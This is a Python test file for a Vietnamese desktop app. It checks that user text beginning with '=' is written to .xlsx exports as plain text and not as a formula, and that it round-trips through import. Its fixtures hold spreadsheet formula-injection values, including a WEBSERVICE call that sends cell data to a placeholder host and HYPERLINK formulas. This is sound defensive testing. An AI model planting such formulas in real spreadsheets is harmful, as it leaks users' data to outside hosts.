"""User text is written to .xlsx as text, never as a formula: a name ``=1+1`` exports as
the text ``=1+1`` (openpyxl reads a string cell, LibreOffice shows the text, nothing is
computed or fetched) and comes back unchanged through import."""

from __future__ import annotations

import zipfile

import pytest
from openpyxl import load_workbook

from danvan_desktop.domain.entities import Campaign, Contribution, Initiative
from danvan_desktop.domain.periods import make_period
from danvan_desktop.services.documents.report_xlsx import build_report_xlsx
from danvan_desktop.services.exchange.export import export_campaigns, export_initiatives
from danvan_desktop.services.exchange.importer import commit_plan, plan_import
from danvan_desktop.store import catalog
from danvan_desktop.store.campaigns import save_campaign
from danvan_desktop.store.db import create_store
from danvan_desktop.store.initiatives import save_initiative

from .test_libreoffice import CSV_OUT, SOFFICE, soffice

HOSTILE = ["=1+1", '=HYPERLINK("http://example.invalid/x","Bấm vào đây")',
           '=WEBSERVICE("http://example.invalid/?"&A1)', "=2*3"]


@pytest.fixture
def hostile(store, commune):
    for n, text in enumerate(HOSTILE):
        save_initiative(store, Initiative(name=text, kind="tap_the", field="kinh_te",
                                          owner_name=f"{text} chủ thể {n}", commune_id=commune,
                                          year=2023, notes=text))
    save_campaign(store, Campaign(title="=1+1", type="duong", commune_id=commune, status="ke_hoach",
                                  estimate_vnd=1_000_000),
                  [Contribution(on_date="2023-02-10", source="nhan_dan", kind="tien",
                                contributor="=HYPERLINK(\"http://example.invalid\")", amount_vnd=1)])
    return store


def _formulas(path) -> list[str]:
    with zipfile.ZipFile(path) as book:
        return [n for n in book.namelist() if n.startswith("xl/worksheets/")
                and (b"<f>" in book.read(n) or b"<f " in book.read(n))]


def test_exports_write_text_starting_with_equals_as_text(hostile, tmp_path):
    path, count = export_initiatives(hostile, tmp_path / "mo-hinh.xlsx")
    assert count == len(HOSTILE)
    assert _formulas(path) == []
    sheet = load_workbook(path).active
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str)
             and c.value.startswith("=")]
    assert {c.value for c in cells} >= set(HOSTILE)
    assert all(c.data_type == "s" for c in cells)
    campaigns, _ = export_campaigns(hostile, tmp_path / "cong-trinh.xlsx", with_contributions=True)
    assert _formulas(campaigns) == []


def test_a_name_like_a_formula_round_trips_through_import(hostile, tmp_path):
    path, _ = export_initiatives(hostile, tmp_path / "mo-hinh.xlsx")
    with create_store(tmp_path / "khac.sqlite3") as other:
        catalog.add_area(other, "Xã Đông Cường", "xa")
        plan = plan_import(other, path)
        assert not plan.errors, [str(e) for e in plan.errors]
        commit_plan(other, plan)
        names = sorted(r["name"] for r in other.query("SELECT name FROM initiatives"))
        notes = sorted(r["notes"] for r in other.query("SELECT notes FROM initiatives"))
    assert names == sorted(HOSTILE) and notes == sorted(HOSTILE)


def test_the_report_workbook_keeps_commune_names_as_text(store, tmp_path):
    district = catalog.add_area(store, "Huyện Đông Hưng", "huyen")
    commune = catalog.add_area(store, "=1+1", "xa", district)
    save_initiative(store, Initiative(name="Mô hình", kind="tap_the", field="kinh_te",
                                      owner_name="Chi hội", commune_id=commune, year=2023,
                                      registered_on="2023-03-07"))
    path = build_report_xlsx(store, make_period(2023, None, None, False), tmp_path / "bao-cao.xlsx")
    assert _formulas(path) == []


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed")
def test_libreoffice_shows_the_text_and_computes_nothing(hostile, tmp_path):
    profile = (tmp_path / "lo-profile").as_uri()  # a fresh profile: no lock shared with a running Calc
    path, _ = export_initiatives(hostile, tmp_path / "mo-hinh.xlsx")
    text = soffice(profile, path, CSV_OUT, tmp_path / "calc").read_text(encoding="utf-8")
    assert "=1+1" in text and "=2*3" in text and "HYPERLINK" in text
    assert ",2," not in text and ",6," not in text  # nothing computed
